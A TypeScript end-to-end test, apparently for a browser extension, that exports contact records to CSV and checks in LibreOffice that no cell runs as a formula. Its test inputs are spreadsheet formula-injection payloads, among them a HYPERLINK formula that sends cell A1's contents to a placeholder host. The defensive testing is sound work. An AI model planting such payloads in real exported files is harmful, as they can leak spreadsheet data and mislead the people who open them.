import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { today } from '../../lib/today.ts';
import { importCases, longAgo, unansweredCase } from './import-cases.ts';
import { lateOrder } from './late-order.ts';
import { convertInOffice, skipWithoutOffice } from './office.ts';
import { expect, test } from './test.ts';

const order = lateOrder();

skipWithoutOffice();

/** Texts that a spreadsheet may carry out, cut apart or misread. */
const TEXTS = [
  '=HYPERLINK("https://example.invalid/?"&A1;"Жмите")',
  '+7 (900) 000-00-00; перезвоните',
  '-1+1',
  '@SUM(A1:A9)',
  'Строка «первая»; "вторая"\nи третья, с запятой',
  '＝1+1',
  '44563249',
];

/** Separated by semicolons, quoted by `"`, in UTF-8: what Excel finds out by the file's first bytes, LibreOffice is told. */
const AS_RUSSIAN_TABLE = 'CSV:59,34,76';

/** The cells of a flat OpenDocument table, row by row, each as its lines of text. */
function rowsOf(fods: string): readonly (readonly string[])[] {
  const plain = (xml: string) =>
    [...xml.matchAll(/<text:p>(.*?)<\/text:p>/gs)]
      .map(([, line = '']) => line.replaceAll(/<text:s[^>]*\/>/g, ' ').replaceAll(/<[^>]+>/g, ''))
      .join('\n')
      .replaceAll('&quot;', '"')
      .replaceAll('&apos;', "'")
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&');
  return [...fods.matchAll(/<table:table-row[^>]*>(.*?)<\/table:table-row>/gs)]
    .map(([, row = '']) => [...row.matchAll(/<table:table-cell[^>]*?(?:\/>|>(.*?)<\/table:table-cell>)/gs)])
    .map((cells) => cells.map(([, cell = '']) => plain(cell)))
    .filter((cells) => cells.some((cell) => cell !== ''));
}

test('the table opens in LibreOffice cell by cell, and no cell is carried out', async ({ extension }) => {
  test.setTimeout(180_000);
  const one = unansweredCase(order, longAgo(today()));
  const [first] = one.attempts;
  if (!first) throw new Error('The case has no contact.');
  const attempts = TEXTS.map((text, index) => ({ ...first, id: `case-1-${index}`, text }));
  const page = await importCases(extension, [{ ...one, attempts }]);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('export-csv').click(),
  ]);
  const folder = test.info().outputPath('table');
  const csv = join(folder, 'table.csv');
  await download.saveAs(csv);
  const fods = readFileSync(convertInOffice(csv, 'fods', folder, AS_RUSSIAN_TABLE), 'utf8');
  expect(fods).toContain('office:spreadsheet');
  expect(fods).not.toContain('table:formula');
  const rows = rowsOf(fods);
  expect(rows).toHaveLength(1 + TEXTS.length);
  const [head = [], ...contacts] = rows;
  expect(head).toContain('Текст');
  const column = head.indexOf('Текст');
  const safe = TEXTS.map((text) => (/^[=+\-@＝]/.test(text) ? `'${text}` : text));
  expect(contacts.map((cells) => cells[column]).sort()).toEqual(safe.sort());
  expect(contacts.every((cells) => cells.includes(order.number))).toBe(true);
});
